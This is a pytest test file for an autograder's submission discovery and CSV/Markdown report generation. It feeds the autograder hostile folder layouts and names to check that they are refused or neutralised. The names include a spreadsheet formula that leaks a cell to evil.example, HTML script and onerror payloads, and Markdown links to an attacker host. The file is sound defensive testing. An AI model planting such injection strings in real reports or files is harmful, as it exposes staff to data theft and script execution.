"""The submissions folder and the reports: who a notebook belongs to, and what reaches a TA.

Each fixture is built here, in tmp_path, the way a hostile class would lay out its folders:
a notebook that is a symbolic link into the instructor's ``solutions/``, a student folder
that holds its own ``submitted/alice/``, two notebooks for one assignment, folder names
that are spreadsheet formulas, HTML or Markdown links, a name that is not UTF-8, and a
chain of 3000 nested folders. Discovery and the reports are tested directly; one batch
goes through ``python -m autograder grade`` end to end.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from autograder import grading, reports

REPO_ROOT = Path(__file__).resolve().parent.parent
ASSIGNMENT = "01_conv_transpose1d"
NOTEBOOK = "conv_transpose1d.ipynb"
SOLUTION = REPO_ROOT / "solutions" / ASSIGNMENT / NOTEBOOK
HAS_BWRAP = shutil.which("bwrap") is not None
DEEP = 3000

# What a class can name its folders (the spreadsheet strings are from issue 8).
FORMULAS = [
    '=HYPERLINK("https:evil.example?leak="&A1,"click me")',  # no "/": it is a folder name
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "=1+1",
]
MARKUP = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "[click](http://evil.example)",
    "![pixel](http://evil.example/p.png)",
    "`code`",
    "**bold**",
    "_em_",
    "www.example.com",
    "mail@example.com",
    "<http://evil.example>",
    "&lt;b&gt;",
]
INVALID_UTF8 = os.fsdecode(b"caf\xe9-\xff\xfe")


def write_notebook(path: Path, text: str = "{}") -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def make_chain(top: Path, depth: int) -> None:
    """``top/d/d/.../d/01_x/nb.ipynb``, ``depth`` folders deep (longer than PATH_MAX)."""
    top.mkdir(parents=True, exist_ok=True)
    folder = os.open(top, os.O_RDONLY | os.O_DIRECTORY)
    try:
        for name in ["d"] * depth + [ASSIGNMENT]:
            os.mkdir(name, dir_fd=folder)
            inner = os.open(name, os.O_RDONLY | os.O_DIRECTORY, dir_fd=folder)
            os.close(folder)
            folder = inner
        handle = os.open(NOTEBOOK, os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=folder)
        os.write(handle, b"{}")
        os.close(handle)
    finally:
        os.close(folder)


def remove_chain(top: Path) -> None:
    """Remove what ``make_chain`` made (GNU rm walks any depth; shutil.rmtree recurses)."""
    subprocess.run(["rm", "-rf", "--", str(top)], check=True)


@pytest.fixture(scope="module")
def built_chain(tmp_path_factory):
    """One chain for the module (making and removing 3000 folders takes seconds)."""
    top = tmp_path_factory.mktemp("chain") / "deep"
    make_chain(top, DEEP)
    yield top
    remove_chain(top)


@pytest.fixture
def chain(built_chain):
    """The chain moved in as ``tmp_path/submitted/deep``, and back out afterwards."""

    def place(target: Path) -> Path:
        target.parent.mkdir(parents=True, exist_ok=True)
        os.rename(built_chain, target)
        placed.append(target)
        return target

    placed: list[Path] = []
    yield place
    for target in placed:
        os.rename(target, built_chain)


def by_rel(found: list) -> dict[str, object]:
    return {submission.rel.as_posix(): submission for submission in found}


def problem_of(submission) -> str:
    """Why discovery refused a submission ("": it is graded)."""
    return getattr(submission, "problem", None) or ""


def student_of(submission) -> str:
    return grading.student_name(submission, ASSIGNMENT)


def graded(found: list) -> list:
    return [s for s in found if not problem_of(s)]


# --------------------------------------------------------------------------- identity


def test_a_notebook_linked_into_solutions_is_refused_not_followed(tmp_path):
    solutions = write_notebook(tmp_path / "solutions" / ASSIGNMENT / NOTEBOOK, '{"answer": 1}')
    submitted = tmp_path / "submitted"
    write_notebook(submitted / "alice" / ASSIGNMENT / NOTEBOOK)
    (submitted / "bob" / ASSIGNMENT).mkdir(parents=True)
    (submitted / "bob" / ASSIGNMENT / NOTEBOOK).symlink_to(solutions)
    (submitted / "carol").mkdir()
    (submitted / "carol" / ASSIGNMENT).symlink_to(solutions.parent, target_is_directory=True)
    found = by_rel(grading.discover([submitted]))
    bob = found[f"bob/{ASSIGNMENT}/{NOTEBOOK}"]
    assert "symbolic link" in problem_of(bob) and student_of(bob) == "bob"
    carol = found[f"carol/{ASSIGNMENT}"]  # the linked folder itself, not entered
    assert "symbolic link" in problem_of(carol) and student_of(carol) == "carol"
    assert not any(key.startswith(f"carol/{ASSIGNMENT}/") for key in found)
    assert [s.rel.as_posix() for s in graded(found.values())] == [f"alice/{ASSIGNMENT}/{NOTEBOOK}"]
    # Named on the command line, the link is refused too.
    (named,) = grading.discover([submitted / "bob" / ASSIGNMENT / NOTEBOOK])
    assert "symbolic link" in problem_of(named)


def test_a_nested_submitted_folder_grades_nobody_else(tmp_path):
    submitted = tmp_path / "submitted"
    write_notebook(submitted / "alice" / ASSIGNMENT / NOTEBOOK, '{"who": "alice"}')
    write_notebook(submitted / "mallory" / "submitted" / "alice" / ASSIGNMENT / NOTEBOOK)
    found = grading.discover([submitted])
    assert [student_of(s) for s in graded(found)] == ["alice"]
    assert graded(found)[0].path == submitted / "alice" / ASSIGNMENT / NOTEBOOK
    (nested,) = [s for s in found if problem_of(s)]
    assert student_of(nested) == "mallory" and "submitted" in problem_of(nested)
    assert grading.student_name(nested, ASSIGNMENT) == "mallory"
    assert nested.out_rel != graded(found)[0].out_rel
    # Named as a file, the same path is refused: the first submitted/ on the path is the root.
    typed = submitted / "mallory" / "submitted" / "alice" / ASSIGNMENT / NOTEBOOK
    (named,) = grading.discover([typed])
    assert student_of(named) == "mallory" and problem_of(named)


def test_a_notebook_named_on_the_command_line_keeps_nbgraders_identity(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    write_notebook(tmp_path / "submitted" / "alice" / ASSIGNMENT / NOTEBOOK)
    write_notebook(tmp_path / "elsewhere" / "bob" / ASSIGNMENT / NOTEBOOK)
    found = grading.discover(
        [f"submitted/alice/{ASSIGNMENT}/{NOTEBOOK}", f"elsewhere/bob/{ASSIGNMENT}/{NOTEBOOK}"]
    )
    assert [(student_of(s), s.out_rel.as_posix(), problem_of(s)) for s in found] == [
        ("alice", f"alice/{ASSIGNMENT}/conv_transpose1d", ""),
        ("bob", f"bob/{ASSIGNMENT}/conv_transpose1d", ""),
    ]


def test_a_second_notebook_for_one_assignment_is_flagged_never_graded_over_the_first(tmp_path):
    submitted = tmp_path / "submitted"
    first = write_notebook(submitted / "alice" / ASSIGNMENT / NOTEBOOK)
    write_notebook(submitted / "alice" / ASSIGNMENT / "conv_transpose1d-Copy1.ipynb")
    write_notebook(submitted / "bob" / ASSIGNMENT / NOTEBOOK)
    found = grading.discover([submitted])
    alice = [s for s in found if student_of(s) == "alice"]
    assert [s.path for s in graded(alice)] == [first]
    (second,) = [s for s in alice if problem_of(s)]
    assert "second notebook" in problem_of(second) and NOTEBOOK in problem_of(second)
    assert len({s.out_rel for s in found}) == len(found)  # no two write the same results
    assert [student_of(s) for s in graded(found)] == ["alice", "bob"]


def test_a_second_notebook_declaring_the_same_assignment_counts_once_in_the_reports():
    """Two graded notebooks of one student for one assignment (found in two folders): the
    first by path counts, the other is "not graded" in grades.csv and needs a look."""
    rows = [
        result_row("alice/01_conv_transpose1d/nb", "alice", ASSIGNMENT, 30, "alice/01/nb.ipynb"),
        result_row("alice/scratch/nb", "alice", ASSIGNMENT, 100, "alice/scratch/nb.ipynb"),
        result_row("bob/01_conv_transpose1d/nb", "bob", ASSIGNMENT, 50, "bob/01/nb.ipynb"),
    ]
    table = list(csv.reader(io.StringIO(reports.grades_csv(rows))))
    assert table[1:] == [
        ["alice", ASSIGNMENT, "30", "100"],
        ["alice", ASSIGNMENT, "not graded: a second notebook for 01_conv_transpose1d; "
         "the first, alice/01/nb.ipynb, counts", ""],
        ["bob", ASSIGNMENT, "50", "100"],
    ]  # fmt: skip
    summary = reports.summary_markdown(rows)
    look = summary.split("## Needs a look")[1].split("## Grades")[0]
    assert "| alice | 01_conv_transpose1d | not graded |" in look
    assert "| alice | 30 |" in summary.split("## Grades")[1]
    assert "| 01_conv_transpose1d | 3 | 1 | 40.0 |" in summary  # the mean of 30 and 50


# --------------------------------------------------------------------------- names


def result_row(rel, student, assignment, score, notebook, **extra):
    results = {
        "score": score,
        "output": "",
        "tests": [],
        "extra_data": dict(
            student=student, assignment=assignment, max_score=100, notebook=notebook, **extra
        ),
    }
    return reports.row_from_results(rel, results)


@pytest.mark.parametrize("name", FORMULAS)
def test_grades_csv_neutralises_a_formula_in_a_folder_name(tmp_path, name):
    rows = [result_row("x", name, ASSIGNMENT, 10, "x.ipynb")]
    table = list(csv.reader(io.StringIO(reports.grades_csv(rows))))
    assert table[1][0] == "'" + name
    for cell in (c for line in table for c in line):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("name", ["\tx=1", "\r=1", "a\nb"])
def test_grades_csv_shows_control_characters_as_escapes(name):
    rows = [result_row("x", name, ASSIGNMENT, 10, "x.ipynb")]
    text = reports.grades_csv(rows)
    (line,) = text.splitlines()[1:]
    assert line.split(",")[0] == name.encode("unicode_escape").decode()


def rendered(markdown: str) -> str:
    """The summary as GitHub-flavoured Markdown renders it (tables, raw HTML, autolinks)."""
    return MarkdownIt("gfm-like").render(markdown)


@pytest.mark.parametrize("name", MARKUP)
def test_summary_shows_a_folder_name_as_plain_text(name):
    rows = [
        result_row("x/nb", name, name, 10, "x/nb.ipynb", static_scan=["F.conv1d"]),
        reports.row_from_results(
            "y", {"output": "Not graded: y: is a symbolic link", "extra_data": {"student": name}}
        ),
    ]
    html = rendered(reports.summary_markdown(rows))
    text = name.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    assert f"<td>{text}</td>" in html  # shown as written, in its own table cell
    for tag in ("<a ", "<img", "<script", "<strong", "<em", "<code"):
        assert tag not in html, f"{name!r} made {tag}"


def test_reports_come_out_for_a_name_that_is_not_utf8(tmp_path):
    rows = [
        result_row("a", INVALID_UTF8, ASSIGNMENT, 10, "a.ipynb"),
        result_row("b", "bob", ASSIGNMENT + "\udcff", 5, "b.ipynb"),
    ]
    reports.write_reports(rows, tmp_path)
    table = (tmp_path / "grades.csv").read_text(encoding="utf-8")
    assert "caf\\xe9-\\xff\\xfe" in table and "\\xff" in table
    summary = (tmp_path / "summary.md").read_text(encoding="utf-8")
    assert "<td>caf\\xe9-\\xff\\xfe</td>" in rendered(summary)


def test_discovery_of_a_name_that_is_not_utf8_and_its_results_folder(tmp_path):
    submitted = tmp_path / "submitted"
    write_notebook(submitted / INVALID_UTF8 / ASSIGNMENT / NOTEBOOK)
    (found,) = grading.discover([submitted])
    assert problem_of(found) == ""
    assert student_of(found) == "caf\\xe9-\\xff\\xfe"
    student_of(found).encode("utf-8")  # printable: it can go into any report
    assert grading.in_shard(found, (1, 1))
    out = tmp_path / "out" / found.out_rel
    out.mkdir(parents=True)
    found.out_rel.as_posix().encode("ascii")  # the results folder is a hashed name


def test_results_folders_are_mirrored_for_plain_names_and_hashed_otherwise(tmp_path):
    submitted = tmp_path / "submitted"
    names = ["alice", "Alice_2", "jo.smith-3", "x" * 255, ".hidden", "Bob", "bob"]
    markup = ["<img src=x onerror=alert(1)>", "`code`", "a|b|c"]
    names += FORMULAS[:2] + markup
    for name in names:
        write_notebook(submitted / name / ASSIGNMENT / NOTEBOOK)
    found = grading.discover([submitted])
    folders = {s.rel.parts[0]: s.out_rel for s in found}
    for plain in ("alice", "Alice_2", "jo.smith-3", "Bob"):
        assert folders[plain] == Path(plain, ASSIGNMENT, "conv_transpose1d")
    hashed = [name for name in names if folders[name].parts[0] == "~hashed"]
    assert sorted(hashed) == sorted(["x" * 255, ".hidden", "bob"] + FORMULAS[:2] + markup)
    keys = [s.out_rel.as_posix().casefold() for s in found]
    assert len(set(keys)) == len(found)  # Bob and bob never share a folder
    for submission in found:
        assert len(submission.out_rel.as_posix()) <= 200
        (tmp_path / "out" / submission.out_rel).mkdir(parents=True)


# --------------------------------------------------------------------------- depth


def test_a_3000_deep_chain_is_refused_and_the_others_are_found(tmp_path, chain):
    chain(tmp_path / "submitted" / "deep")
    write_notebook(tmp_path / "submitted" / "alice" / ASSIGNMENT / NOTEBOOK)
    found = grading.discover([tmp_path / "submitted"])
    assert [student_of(s) for s in graded(found)] == ["alice"]
    (deep,) = [s for s in found if problem_of(s)]
    assert student_of(deep) == "deep" and "nested" in problem_of(deep)
    assert len(deep.rel.parts) <= grading.MAX_FOLDERS + 2
    assert deep.out_rel != graded(found)[0].out_rel


def test_collect_reads_results_without_following_links_or_depth(tmp_path, chain):
    out = tmp_path / "out"
    write_notebook(out / "alice" / ASSIGNMENT / "nb" / "results.json", json.dumps({"score": 7}))
    elsewhere = write_notebook(tmp_path / "forged" / "results.json", json.dumps({"score": 99}))
    (out / "mallory").mkdir()
    (out / "mallory" / "results.json").symlink_to(elsewhere)
    (out / "linked").symlink_to(elsewhere.parent, target_is_directory=True)
    chain(out / "deep")
    rows = reports.collect(out)
    assert [(row.rel, row.score) for row in rows] == [(f"alice/{ASSIGNMENT}/nb", 7)]


# --------------------------------------------------------------------------- end to end


def grade(*args: str, cwd: Path, temporary: Path) -> subprocess.CompletedProcess:
    env = dict(os.environ, TMPDIR=str(temporary))
    env["PATH"] = f"{Path(sys.executable).parent}{os.pathsep}{env.get('PATH', '')}"
    env["PYTHONPATH"] = str(REPO_ROOT)  # the checkout under test, not another install
    return subprocess.run(
        [sys.executable, "-m", "autograder", *args],
        cwd=cwd,
        env=env,
        capture_output=True,
        timeout=900,
    )


@pytest.mark.slow
def test_a_hostile_submissions_folder_costs_only_its_own_grades(tmp_path, chain):
    """One batch: alice's own answer is graded once; every hostile entry is "not graded",
    listed under "needs a look", costs nobody else anything; the reports and no work
    folder remain."""
    if not HAS_BWRAP:
        if os.environ.get("CI"):
            pytest.fail("bubblewrap is not installed, and CI's .ci/run should have installed it")
        pytest.skip("bubblewrap is not installed (apt-get install bubblewrap)")
    submitted = tmp_path / "submitted"
    chain(submitted / "deep")
    shutil.copyfile(SOLUTION, write_notebook(submitted / "alice" / ASSIGNMENT / NOTEBOOK))
    (submitted / "bob" / ASSIGNMENT).mkdir(parents=True)
    (submitted / "bob" / ASSIGNMENT / NOTEBOOK).symlink_to(SOLUTION)
    nested = submitted / "mallory" / "submitted" / "alice" / ASSIGNMENT / NOTEBOOK
    write_notebook(nested, "{ not json")
    for name in (FORMULAS[0], MARKUP[0], INVALID_UTF8):
        write_notebook(submitted / name / ASSIGNMENT / NOTEBOOK, "{ not json")
    temporary = tmp_path / "tmp"
    temporary.mkdir()
    run = grade("grade", "submitted", "--out", "out", "--sandbox", "bwrap", "--jobs", "1",
                "--seed", "1", cwd=tmp_path, temporary=temporary)  # fmt: skip
    stderr = run.stderr.decode(errors="replace")
    assert run.returncode == 0, stderr
    assert list(temporary.iterdir()) == []  # the work folder was removed
    with open(tmp_path / "out" / "grades.csv", newline="", encoding="utf-8") as handle:
        table = {(r["student"], r["assignment"]): r["score"] for r in csv.DictReader(handle)}
    assert table[("alice", ASSIGNMENT)] == "100"
    assert list(table).count(("alice", ASSIGNMENT)) == 1
    refused = {student for (student, _), score in table.items() if score.startswith("not graded")}
    assert refused == {"bob", "mallory", "deep"}
    assert table[("'" + FORMULAS[0], ASSIGNMENT)] == "0"  # unreadable, and no formula
    assert table[("caf\\xe9-\\xff\\xfe", ASSIGNMENT)] == "0"
    summary = (tmp_path / "out" / "summary.md").read_text(encoding="utf-8")
    look = summary.split("## Needs a look")[1].split("## Grades")[0]
    for student in ("bob", "mallory", "deep"):
        assert f"| {student} |  | not graded |" in look
    assert "<img" not in summary
    answer = written_answer(SOLUTION, "ct1d_why_flipped")
    bob = [p for p in (tmp_path / "out").rglob("results.json") if "bob" in p.parts]
    assert len(bob) == 1 and answer not in bob[0].read_text(encoding="utf-8")
    assert answer in results_of(tmp_path / "out", "alice")["output"]  # her own copy, quoted


def written_answer(notebook: Path, grade_id: str) -> str:
    """The first line of a hand-graded answer (the instructor's, in ``solutions/``)."""
    for cell in json.loads(notebook.read_text(encoding="utf-8"))["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == grade_id:
            return "".join(cell["source"]).strip().splitlines()[0]
    raise AssertionError(f"{grade_id} not in {notebook}")


def results_of(out: Path, student: str) -> dict:
    (path,) = (out / student).rglob("results.json")
    return json.loads(path.read_text(encoding="utf-8"))
